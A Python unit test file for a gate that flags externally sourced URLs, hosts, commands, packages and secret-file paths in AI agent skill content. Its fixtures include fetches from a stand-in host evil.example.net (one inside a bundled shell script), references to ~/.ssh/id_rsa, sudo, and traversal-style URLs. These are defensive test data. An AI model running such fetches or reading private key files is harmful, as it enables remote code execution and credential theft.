"""What came from outside and would be believed word for word must be ticked, each thing by itself."""

from __future__ import annotations

import pytest

from tacit.domain.origin import Origin
from tacit.domain.skill import Condition, Provenance, SkillContent, SkillFile, SkillStep, said_in
from tacit.gate import examine_content
from tests.unit.making import bash_steps, content

WRITTEN = Provenance(made_by="ann")


def keys(made: SkillContent, **external: Origin) -> list[str]:
    """Keys to tick; every field is a person's but for those that are named."""
    origins = dict.fromkeys(said_in(made), Origin.USER)
    origins |= {name.replace("_", "."): origin for name, origin in external.items()}
    return [literal.key for literal in examine_content(made, origins, provenance=WRITTEN).literals]


CURL = SkillStep(text="Fetch it", tool="Bash", arguments={"command": "curl https://api.example.com/v1 -o out.json"})


def test_a_url_from_outside_is_asked_for_with_its_host_in_one():
    found = keys(content(steps=(CURL,)), steps_0=Origin.EXTERNAL)
    assert set(found) == {"url:https://api.example.com/v1", "command:curl"}


def said(text: str) -> list[str]:
    return keys(content(body=text), body=Origin.EXTERNAL)


def test_a_host_that_no_url_names_is_asked_for():
    assert said("See https://docs.example.org/a and evil.example.net.") == [
        "url:https://docs.example.org/a",
        "host:evil.example.net",
    ]


@pytest.mark.parametrize(
    ("url", "asked"),
    [
        ("https://a.example.net/docs/install", False),
        ("https://a.example.net/docs/", False),
        ("https://a.example.net/docs#top", False),
        ("https://a.example.net/docs-of-another", True),
        ("https://a.example.net/other", True),
        ("https://a.example.net/docs/x?to=them", True),
        ("https://a.example.net/docs/../other", True),
        ("https://a.example.net/docs/https://b.example.net", True),
        ("http://a.example.net/docs/install", True),
        ("https://b.example.net/docs/install", True),
        ("https://a.example.net:8443/docs/install", True),
        ("https://[::1/docs", True),
    ],
)
def test_a_place_beneath_one_that_is_asked_for_is_not_asked_for_again(url, asked):
    assert (f"url:{url}" in said(f"See https://a.example.net/docs first. Then {url} too.")) is asked


def test_beneath_a_bare_host_everything_is_asked_for():
    assert "url:https://a.example.net/x" in said("See https://a.example.net and https://a.example.net/x today.")


def test_the_program_of_a_longer_command_is_not_asked_for_again():
    found = said("Run `python3 -c 'print(1)'`, then `python3 manage.py sync`, then `git push`.")
    assert found == ["command:python3 manage.py sync", "command:git push"]


def test_a_package_that_is_run_is_asked_for_once_and_what_launches_a_known_one_is_told_with_it():
    assert said("Run `npx left-pad-zq --fix`.") == ["package:left-pad-zq"]
    assert said("Run `npx -p left-pad-zq pad`.") == ["command:npx pad", "package:left-pad-zq"]
    assert "command:npm run redis" in said("Run `pip install redis`, then `npm run redis`.")


def test_what_only_stands_before_a_command_is_not_asked_for_but_for_more_rights():
    assert said("Run `time make deploy`.") == ["command:make deploy"]
    assert set(said("Run `sudo make deploy`.")) == {"command:sudo", "command:make deploy"}


def test_the_file_of_a_key_is_a_secret_and_asked_for_once():
    assert said("Look at ~/.ssh/id_rsa before.") == ["secret:~/.ssh/id_rsa"]
    assert said("Look at .ssh/id_rsa before.") == ["secret:.ssh/id_rsa"]


@pytest.mark.parametrize("origin", [Origin.AGENT, Origin.USER, Origin.OPERATOR])
def test_what_was_not_from_outside_is_never_asked_for(origin):
    made = content(steps=(CURL,))
    assert keys(made, steps_0=origin) == []


def test_only_the_field_from_outside_counts():
    made = content(steps=(CURL, *bash_steps("wget https://evil.example.net/x")), body="See https://docs.example.org/a")
    found = keys(made, steps_1=Origin.EXTERNAL)
    assert "url:https://evil.example.net/x" in found
    assert not any("api.example.com" in key or "docs.example.org" in key for key in found)


def test_the_same_thing_twice_is_asked_for_once():
    made = content(steps=(CURL, CURL))
    found = keys(made, steps_0=Origin.EXTERNAL, steps_1=Origin.EXTERNAL)
    assert len(found) == len(set(found))
    assert "url:https://api.example.com/v1" in found


def test_a_program_that_nobody_knows_is_a_command_all_the_same():
    found = keys(content(steps=bash_steps("frobnicate --all")), steps_0=Origin.EXTERNAL)
    assert "command:frobnicate" in found


def test_a_script_inside_a_command_is_read_too():
    found = keys(content(steps=bash_steps("bash -c 'frobnicate --all'")), steps_0=Origin.EXTERNAL)
    assert "command:frobnicate" in found


def test_the_check_of_a_condition_is_a_command():
    made = content(postconditions=(Condition(text="it works", check="frobnicate --verify"),))
    assert "command:frobnicate" in keys(made, postconditions_0=Origin.EXTERNAL)
    assert keys(made) == []


def test_moving_between_folders_is_no_command_to_tick():
    assert keys(content(steps=bash_steps("cd src && pwd")), steps_0=Origin.EXTERNAL) == []


def test_arguments_from_outside_make_their_step_a_stranger():
    made = content(steps=(CURL,))
    origins = dict.fromkeys(said_in(made), Origin.USER) | {"steps.0.arguments": Origin.EXTERNAL}
    assert examine_content(made, origins, provenance=WRITTEN).literals


def test_a_field_whose_origin_nobody_noted_counts_as_from_outside():
    made = content(steps=(CURL,))
    origins = dict.fromkeys(said_in(made), Origin.USER)
    del origins["steps.0"]
    assert examine_content(made, origins, provenance=WRITTEN).literals
    listed = {**origins, "steps": Origin.USER}
    assert not examine_content(made, listed, provenance=WRITTEN).literals, "an entry has the origin of its list"


def test_a_bundled_script_from_outside_is_looked_at():
    made = content(files=(SkillFile(path="run.sh", content="#!/bin/sh\ncurl https://evil.example.net/a\n"),))
    assert "url:https://evil.example.net/a" in keys(made, files_0=Origin.EXTERNAL)


def test_a_literal_names_its_field_and_its_key():
    made = content(steps=(CURL,))
    origins = dict.fromkeys(said_in(made), Origin.EXTERNAL)
    [url] = [each for each in examine_content(made, origins, provenance=WRITTEN).literals if each.kind == "url"]
    assert (url.key, url.field, url.origin) == ("url:https://api.example.com/v1", "steps.0", Origin.EXTERNAL)
